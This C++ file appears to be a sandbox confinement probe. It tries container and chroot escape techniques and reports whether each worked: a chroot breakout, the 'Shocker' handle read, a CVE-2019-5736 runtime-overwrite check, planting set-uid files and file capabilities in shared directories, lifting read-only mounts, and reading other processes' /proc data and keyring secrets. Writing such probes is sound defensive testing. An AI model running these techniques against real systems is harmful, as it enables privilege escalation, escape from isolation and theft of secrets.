// Attacks through paths, mounts, descriptors, keyrings and /proc.
#include <dirent.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <linux/openat2.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "probe.h"

namespace probe {
namespace {

constexpr long kKeyctl = 250, kAddKey = 248, kFchmodat2 = 452;
constexpr mode_t kSetId = S_ISUID | S_ISGID;

std::string content_of(int fd) {
  std::string content;
  char buffer[4096];
  for (ssize_t size; content.size() < (1 << 20) && (size = ::read(fd, buffer, sizeof(buffer))) > 0;)
    content.append(buffer, static_cast<std::size_t>(size));
  return content;
}

bool shows(int fd, std::string_view text) {
  return fd >= 0 && content_of(fd).find(text) != std::string::npos;
}

bool shows(const std::string& path, std::string_view text) {
  const int fd = ::open(path.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  const bool found = shows(fd, text);
  if (fd >= 0) ::close(fd);
  return found;
}

Verdict verdict_on_read(const std::string& path, std::string_view text) {
  errno = 0;
  if (shows(path, text)) {
    std::printf("%s was read\n", path.c_str());
    return kWorked;
  }
  std::printf("%s: %s\n", path.c_str(), errno != 0 ? std::strerror(errno) : "holds something else");
  return kRefused;
}

template <class Visit>
void each_entry(const std::string& path, Visit visit) {
  DIR* directory = ::opendir(path.c_str());
  if (directory == nullptr) return;
  while (const dirent* entry = ::readdir(directory))
    if (std::string_view(entry->d_name) != "." && std::string_view(entry->d_name) != "..")
      visit(path + "/" + entry->d_name);
  ::closedir(directory);
}

template <class Visit>
void each_process(Visit visit) {
  each_entry("/proc", [&](const std::string& path) {
    if (path.find_first_not_of("0123456789", 6) == std::string::npos) visit(path);
  });
}

// ---- reading what was never granted

Verdict read_file(Arguments args) {
  return args.size() == 2 ? verdict_on_read(args[0], args[1]) : kNotTried;
}

Verdict read_through_symlink(Arguments args) {
  if (args.size() != 3) return kNotTried;
  const std::string link = std::string(args[0]) + "/link";
  if (::symlink(args[1], link.c_str()) != 0) return kNotTried;
  return verdict_on_read(link, args[2]);
}

Verdict read_through_hard_link(Arguments args) {
  if (args.size() != 3) return kNotTried;
  const std::string link = std::string(args[0]) + "/link";
  if (::link(args[1], link.c_str()) != 0) return refused_if_negative(-1, "link");
  return verdict_on_read(link, args[2]);
}

Verdict read_through_processes(Arguments args) {
  if (args.size() != 2) return kNotTried;
  Verdict verdict = kRefused;
  each_process([&](const std::string& process) {
    for (const char* way : {"/root", "/cwd/.", "/cwd/../../../../../../../.."})
      if (verdict_on_read(process + way + args[0], args[1]) == kWorked) verdict = kWorked;
    each_entry(process + "/fd", [&](const std::string& fd) {
      if (verdict_on_read(fd + args[0], args[1]) == kWorked) verdict = kWorked;
    });
  });
  return verdict;
}

// "Shocker": a handle names an inode of the file system, below no root at all.
Verdict read_by_handle(Arguments args) {
  if (args.size() != 2) return kNotTried;
  struct {
    file_handle head;
    unsigned char bytes[128];
  } handle{};
  handle.head.handle_bytes = sizeof(handle.bytes);
  int mount_id = 0;
  if (::name_to_handle_at(AT_FDCWD, args[0], &handle.head, &mount_id, 0) != 0)
    return refused_if_negative(-1, "name_to_handle_at");
  const int mount = ::open("/usr", O_RDONLY | O_DIRECTORY);
  const int fd = ::open_by_handle_at(mount, &handle.head, O_RDONLY);
  if (fd < 0) return refused_if_negative(fd, "open_by_handle_at");
  return shows(fd, args[1]) ? kWorked : kRefused;
}

// The classic way out of a chroot: stand outside the new root, then walk up.
Verdict break_out_of_chroot(Arguments args) {
  if (args.size() != 3) return kNotTried;
  if (::chroot(args[0]) != 0 || ::chdir("/") != 0) return refused_if_negative(-1, "chroot");
  const int here = ::open(".", O_RDONLY | O_DIRECTORY);
  ::mkdir("deeper", 0700);
  if (::chroot("deeper") != 0 || ::fchdir(here) != 0) return refused_if_negative(-1, "chroot");
  ::rmdir("deeper");
  for (int i = 0; i < 64; ++i)
    if (::chdir("..") != 0) return refused_if_negative(-1, "chdir");
  return verdict_on_read(args[1] + 1, args[2]);  // relative: from the top of the tree
}

// ---- changing what is read-only

Verdict open_for_writing(Arguments args) {
  if (args.size() != 1) return kNotTried;
  return refused_if_negative(::open(args[0], O_WRONLY | O_APPEND | O_NONBLOCK), "open");
}

// With a file that has no name, so that nothing is left behind where it works.
Verdict create_in(Arguments args) {
  if (args.size() != 1) return kNotTried;
  return refused_if_negative(::open(args[0], O_TMPFILE | O_WRONLY, 0600), "open O_TMPFILE");
}

struct Change {
  std::string_view name;
  int (*make)(const char* path);
};

std::string beside(const char* path, const char* suffix) {
  return std::string(path) + suffix;
}

// Each on a file; all of them work for its owner where it can be written.
constexpr Change kChanges[] = {
    {"write",
     [](const char* path) {
       const int fd = ::open(path, O_WRONLY);
       return fd < 0 ? fd : static_cast<int>(::write(fd, "x", 1));
     }},
    {"open-truncated", [](const char* path) { return ::open(path, O_WRONLY | O_TRUNC); }},
    {"truncate", [](const char* path) { return ::truncate(path, 0); }},
    {"chmod", [](const char* path) { return ::chmod(path, 0600); }},
    {"fchmod-read-only", [](const char* path) { return ::fchmod(::open(path, O_RDONLY), 0600); }},
    {"fchmodat2",
     [](const char* path) {
       return static_cast<int>(::syscall(kFchmodat2, AT_FDCWD, path, 0600, 0));
     }},
    {"chown", [](const char* path) { return ::chown(path, ::getuid(), ::getgid()); }},
    {"utimes", [](const char* path) { return ::utimensat(AT_FDCWD, path, nullptr, 0); }},
    {"futimens-read-only",
     [](const char* path) { return ::futimens(::open(path, O_RDONLY), nullptr); }},
    {"setxattr", [](const char* path) { return ::setxattr(path, "user.probe", "x", 1, 0); }},
    {"fsetxattr-read-only",
     [](const char* path) { return ::fsetxattr(::open(path, O_RDONLY), "user.probe", "x", 1, 0); }},
    {"hard-link", [](const char* path) { return ::link(path, beside(path, ".link").c_str()); }},
    {"symlink-beside",
     [](const char* path) { return ::symlink("x", beside(path, ".sym").c_str()); }},
    {"mkdir-beside", [](const char* path) { return ::mkdir(beside(path, ".dir").c_str(), 0755); }},
    {"mkfifo-beside",
     [](const char* path) { return ::mkfifo(beside(path, ".fifo").c_str(), 0666); }},
    {"create-beside",
     [](const char* path) {
       return ::open(beside(path, ".new").c_str(), O_CREAT | O_WRONLY, 0644);
     }},
    {"rename", [](const char* path) { return ::rename(path, beside(path, ".moved").c_str()); }},
    {"replace",
     [](const char* path) {
       const std::string other = beside(path, ".other");
       const int made = ::open(other.c_str(), O_CREAT | O_WRONLY, 0644);
       return made < 0 ? made : ::rename(other.c_str(), path);
     }},
    {"reopen-through-proc",
     [](const char* path) {
       const int fd = ::open(path, O_RDONLY);
       return fd < 0 ? fd : ::open(("/proc/self/fd/" + std::to_string(fd)).c_str(), O_RDWR);
     }},
    {"unlink", [](const char* path) { return ::unlink(path); }},
};

Verdict change_file(Arguments args) {
  if (args.size() == 1 && std::string_view(args[0]) == "--list") {
    for (const Change& change : kChanges)
      std::printf("%s\n", std::string(change.name).c_str());
    return kWorked;
  }
  if (args.size() != 2) return kNotTried;
  for (const Change& change : kChanges)
    if (change.name == args[0]) return refused_if_negative(change.make(args[1]), args[0]);
  return kNotTried;
}

Verdict write_to_fifo(Arguments args) {
  if (args.size() != 1) return kNotTried;
  const int fd = ::open(args[0], O_WRONLY | O_NONBLOCK);
  return refused_if_negative(fd < 0 ? fd : ::write(fd, "x", 1), "write to the FIFO");
}

// CVE-2019-5736. "Text file busy" means that only the running process stood in the way.
Verdict overwrite_program(Arguments args) {
  if (args.size() != 1) return kNotTried;
  const int held = ::open(args[0], O_PATH);
  if (held < 0) return refused_if_negative(held, "open O_PATH");
  const int fd = ::open(("/proc/self/fd/" + std::to_string(held)).c_str(), O_WRONLY | O_APPEND);
  if (fd < 0 && errno == ETXTBSY) {
    std::printf("open: it is busy, so it could be written a moment later\n");
    return kWorked;
  }
  return refused_if_negative(fd, "open");
}

// The same on this very program: the descriptor goes on to a shell, and then nobody executes it.
Verdict overwrite_own_program(Arguments) {
  const int held = ::open("/proc/self/exe", O_PATH);
  const std::string path = "/proc/self/fd/" + std::to_string(held);
  ::execl("/bin/sh", "sh", "-c", "(: >>\"$0\") && exit 0 || exit 1", path.c_str(), nullptr);
  return kNotTried;
}

// ---- leaving something behind in a directory that is shared with the host

// Each leaves `path` with a set-id bit. mkdir() is not among them: the kernel itself drops the
// bits.
constexpr Change kSetIdWays[] = {
    {"chmod", [](const char* path) { return ::chmod(path, 04755); }},
    {"chmod-group", [](const char* path) { return ::chmod(path, 02755); }},
    {"fchmod", [](const char* path) { return ::fchmod(::open(path, O_RDONLY), 04755); }},
    {"fchmodat", [](const char* path) { return ::fchmodat(AT_FDCWD, path, 06755, 0); }},
    {"fchmodat2",
     [](const char* path) {
       return static_cast<int>(::syscall(kFchmodat2, AT_FDCWD, path, 04755, 0));
     }},
    {"chmod-high-bits",  // the kernel takes 16 bits of the mode; a filter must not look at 64
     [](const char* path) {
       return static_cast<int>(::syscall(SYS_chmod, path, 0xffff'0000'0000'0000UL | 04755));
     }},
    {"chmod-directory",
     [](const char* path) {
       ::unlink(path);
       return ::mkdir(path, 0755) != 0 ? -1 : ::chmod(path, 02755);
     }},
    {"open",
     [](const char* path) {
       ::unlink(path);
       return static_cast<int>(::syscall(SYS_open, path, O_CREAT | O_WRONLY, 04755));
     }},
    {"openat",
     [](const char* path) {
       ::unlink(path);
       return static_cast<int>(::syscall(SYS_openat, AT_FDCWD, path, O_CREAT | O_WRONLY, 04755));
     }},
    {"openat2",
     [](const char* path) {
       ::unlink(path);
       open_how how{.flags = O_CREAT | O_WRONLY, .mode = 04755, .resolve = 0};
       return static_cast<int>(::syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how)));
     }},
    {"creat",
     [](const char* path) {
       ::unlink(path);
       return static_cast<int>(::syscall(SYS_creat, path, 04755));
     }},
    {"tmpfile",
     [](const char* path) {
       ::unlink(path);
       const std::string parent(path, std::string_view(path).rfind('/'));
       const int fd = ::open(parent.c_str(), O_TMPFILE | O_WRONLY, 04755);
       if (fd < 0) return fd;
       return ::linkat(AT_FDCWD, ("/proc/self/fd/" + std::to_string(fd)).c_str(), AT_FDCWD, path,
                       AT_SYMLINK_FOLLOW);
     }},
    {"mknod",
     [](const char* path) {
       ::unlink(path);
       return static_cast<int>(::syscall(SYS_mknod, path, S_IFREG | 04755, 0));
     }},
    {"mknodat",
     [](const char* path) {
       ::unlink(path);
       return static_cast<int>(::syscall(SYS_mknodat, AT_FDCWD, path, S_IFREG | 02755, 0));
     }},
};

Verdict leave_set_id(Arguments args) {
  if (args.size() == 1 && std::string_view(args[0]) == "--list") {
    for (const Change& way : kSetIdWays)
      std::printf("%s\n", std::string(way.name).c_str());
    return kWorked;
  }
  if (args.size() != 2) return kNotTried;
  ::umask(0);
  const int made = ::open(args[1], O_CREAT | O_WRONLY, 0755);
  if (made < 0) return kNotTried;
  ::close(made);
  for (const Change& way : kSetIdWays) {
    if (way.name != args[0]) continue;
    if (way.make(args[1]) < 0) return refused_if_negative(-1, args[0]);
    struct stat there{};
    const bool set = ::lstat(args[1], &there) == 0 && (there.st_mode & kSetId) != 0;
    std::printf("mode %o\n", there.st_mode);
    return set ? kWorked : kRefused;
  }
  return kNotTried;
}

// CAP_DAC_READ_SEARCH for whoever executes the file.
constexpr std::uint32_t kCapability[] = {0x02000001, 1U << 2, 0, 0, 0};

Verdict leave_capability(Arguments args) {
  if (args.size() != 1) return kNotTried;
  return refused_if_negative(
      ::setxattr(args[0], "security.capability", kCapability, sizeof(kCapability), 0), "setxattr");
}

Verdict leave_device(Arguments args) {
  if (args.size() != 2) return kNotTried;
  const std::string_view kind = args[0];
  if (kind == "whiteout") {  // a rename that leaves a device 0:0, which needs no capability
    const std::string moved = beside(args[1], ".moved");
    const int made = ::open(args[1], O_CREAT | O_WRONLY, 0644);
    if (made < 0) return kNotTried;
    if (::syscall(SYS_renameat2, AT_FDCWD, args[1], AT_FDCWD, moved.c_str(), 4) != 0)
      return refused_if_negative(-1, "renameat2");
    struct stat there{};
    return ::lstat(args[1], &there) == 0 && S_ISCHR(there.st_mode) ? kWorked : kRefused;
  }
  const mode_t type = kind == "block" ? S_IFBLK : S_IFCHR;
  const dev_t device = kind == "overlay" ? ::makedev(0, 0) : ::makedev(1, 3);
  return refused_if_negative(::mknod(args[1], type | 0666, device), "mknod");
}

// ---- sockets that have a path

Verdict connect_to_path(Arguments args) {
  if (args.size() != 2) return kNotTried;
  const std::string_view way = args[0];
  sockaddr_un address{.sun_family = AF_UNIX, .sun_path = {}};
  if (std::strlen(args[1]) >= sizeof(address.sun_path)) return kNotTried;
  std::strcpy(address.sun_path, args[1]);
  const auto* generic = reinterpret_cast<const sockaddr*>(&address);

  int fds[2] = {-1, -1};
  if (way.starts_with("pair-")) {
    const int type = way == "pair-raw" ? SOCK_RAW : SOCK_DGRAM;
    if (::socketpair(AF_UNIX, type, 0, fds) != 0) return refused_if_negative(-1, "socketpair");
  } else {
    const int type = way == "stream"      ? SOCK_STREAM
                     : way == "seqpacket" ? SOCK_SEQPACKET
                                          : SOCK_DGRAM;
    fds[0] = ::socket(AF_UNIX, type, 0);
    if (fds[0] < 0) return refused_if_negative(-1, "socket");
  }
  if (way == "datagram-send" || way == "pair-send")
    return refused_if_negative(::sendto(fds[0], "x", 1, 0, generic, sizeof(address)), "sendto");
  return refused_if_negative(::connect(fds[0], generic, sizeof(address)), "connect");
}

// ---- the mount tree

Verdict lift_read_only(Arguments args) {
  if (args.size() != 2) return kNotTried;
  const std::string_view way = args[0];
  long result = -1;
  if (way == "remount") {
    result = ::mount(nullptr, args[1], nullptr, MS_REMOUNT | MS_BIND, nullptr);
  } else if (way == "setattr") {
    mount_attr attr{.attr_set = 0, .attr_clr = MOUNT_ATTR_RDONLY, .propagation = 0, .userns_fd = 0};
    result = ::syscall(SYS_mount_setattr, AT_FDCWD, args[1], 0, &attr, sizeof(attr));
  } else if (way == "unmount") {
    result = ::umount2(args[1], MNT_DETACH);
  } else if (way == "cover") {
    result = ::mount("none", args[1], "tmpfs", 0, nullptr);
  } else if (way == "share") {
    result = ::mount(nullptr, args[1], nullptr, MS_SHARED, nullptr);
  } else if (way == "clone") {
    result = ::syscall(SYS_open_tree, AT_FDCWD, args[1], 1 /* OPEN_TREE_CLONE */);
  } else if (way == "new-root") {
    result = ::chdir(args[1]) == 0 ? ::syscall(SYS_pivot_root, ".", ".") : -1;
  } else {
    return kNotTried;
  }
  return refused_if_negative(result, args[0]);
}

// ---- what a program inherits

// Executes the rest of the arguments with `args[0]` (a directory), a file in it and a socket open
// in every second descriptor up to 200.
Verdict with_descriptors(Arguments args) {
  if (args.size() < 3) return kNotTried;
  const int sources[] = {::open(args[0], O_RDONLY | O_DIRECTORY),
                         ::open((std::string(args[0]) + "/" + args[1]).c_str(), O_RDONLY),
                         ::socket(AF_UNIX, SOCK_STREAM, 0)};
  if (std::ranges::find(sources, -1) != std::end(sources)) return kNotTried;
  for (int number = 10; number <= 200; number += 2)
    if (::dup2(sources[number / 2 % 3], number) < 0) return kNotTried;
  ::execv(args[2], args.data() + 2);
  return kNotTried;
}

Verdict find_descriptors(Arguments) {
  Verdict verdict = kRefused;
  for (int fd = 3; fd < 4096; ++fd) {
    if (::fcntl(fd, F_GETFD) < 0) continue;
    std::printf("descriptor %d is open\n", fd);
    verdict = kWorked;
  }
  return verdict;
}

Verdict read_through_descriptors(Arguments args) {
  if (args.size() != 2) return kNotTried;
  for (int fd = 0; fd < 4096; ++fd) {
    const int file = ::openat(fd, args[0], O_RDONLY | O_CLOEXEC);
    if (shows(file, args[1])) return kWorked;
    if (file >= 0) ::close(file);
  }
  return kRefused;
}

constexpr int kSessionKeyring = -3;
constexpr int kJoin = 1, kSearch = 10, kRead = 11;  // operations of keyctl

// Executes the rest of the arguments in a session keyring that holds the key `args[0]`.
Verdict with_session_key(Arguments args) {
  if (args.size() < 2) return kNotTried;
  if (::syscall(kKeyctl, kJoin, nullptr) < 0 ||
      ::syscall(kAddKey, "user", "probe", args[0], std::strlen(args[0]), kSessionKeyring) < 0) {
    std::printf("keyring: %s\n", std::strerror(errno));
    return kNotTried;
  }
  ::execv(args[1], args.data() + 1);
  return kNotTried;
}

Verdict read_session_key(Arguments args) {
  if (args.size() != 1) return kNotTried;
  const long key = ::syscall(kKeyctl, kSearch, kSessionKeyring, "user", "probe", 0);
  if (key < 0) return refused_if_negative(key, "keyctl");
  char secret[256] = {};
  if (::syscall(kKeyctl, kRead, key, secret, sizeof(secret) - 1) < 0)
    return refused_if_negative(-1, "keyctl");
  return std::string_view(secret).find(args[0]) != std::string_view::npos ? kWorked : kRefused;
}

// The text comes in two halves, or it would be found in this program's own arguments.
Verdict find_in_processes(Arguments args) {
  if (args.size() != 2) return kNotTried;
  const std::string text = std::string(args[0]) + args[1];
  Verdict verdict = kRefused;
  each_process([&](const std::string& process) {
    for (const char* file : {"/environ", "/cmdline", "/comm", "/stat", "/status", "/cgroup",
                             "/auxv", "/maps", "/mountinfo", "/sessionid", "/wchan", "/syscall"})
      if (shows(process + file, text)) {
        std::printf("found in %s%s\n", process.c_str(), file);
        verdict = kWorked;
      }
  });
  return verdict;
}

// ---- what a file makes of whoever executes it

Verdict gain_root(Arguments) {
  std::printf("effective uid %u\n", ::geteuid());
  return ::geteuid() == 0 ? kWorked : kRefused;
}

constexpr Attack kAttacks[] = {
    {"read-file", "PATH TEXT: reads a file and finds the text in it", read_file},
    {"read-through-symlink", "DIR PATH TEXT: makes a symlink in DIR and reads through it",
     read_through_symlink},
    {"read-through-hard-link", "DIR PATH TEXT: makes a hard link in DIR and reads through it",
     read_through_hard_link},
    {"read-through-processes", "PATH TEXT: reads below the root, cwd and files of every process",
     read_through_processes},
    {"read-by-handle", "PATH TEXT: reads a file by its handle, without a path", read_by_handle},
    {"break-out-of-chroot", "DIR PATH TEXT: leaves a chroot by a second one", break_out_of_chroot},
    {"open-for-writing", "PATH: opens a file for writing and leaves it as it is", open_for_writing},
    {"create-in", "DIR: creates a file without a name", create_in},
    {"change-file", "CHANGE PATH: changes a file; --list names the changes", change_file},
    {"write-to-fifo", "PATH: puts a byte into a FIFO that has a reader", write_to_fifo},
    {"overwrite-program", "PATH: opens a program that is running for writing", overwrite_program},
    {"overwrite-own-program", "opens this program for writing while nobody runs it",
     overwrite_own_program},
    {"leave-set-id", "WAY PATH: leaves a set-id file; --list names the ways", leave_set_id},
    {"leave-capability", "PATH: gives a file a capability", leave_capability},
    {"leave-device", "KIND PATH: leaves a device node: null, block, overlay or whiteout",
     leave_device},
    {"connect-to-path", "WAY PATH: reaches a socket that has a path", connect_to_path},
    {"lift-read-only", "WAY PATH: makes a read-only mount writable, or takes it away",
     lift_read_only},
    {"with-descriptors", "DIR FILE PROGRAM...: executes a program with descriptors open",
     with_descriptors},
    {"find-descriptors", "finds descriptors other than the standard ones", find_descriptors},
    {"read-through-descriptors", "NAME TEXT: reads a file relative to any descriptor",
     read_through_descriptors},
    {"with-session-key", "TEXT PROGRAM...: executes a program with a key in its session keyring",
     with_session_key},
    {"read-session-key", "TEXT: reads the key of with-session-key", read_session_key},
    {"find-in-processes", "HALF HALF: finds a text in what /proc says of any process",
     find_in_processes},
    {"gain-root", "is root, or has become root by executing a set-uid file", gain_root},
};

}  // namespace

std::span<const Attack> file_attacks() {
  return kAttacks;
}

}  // namespace probe
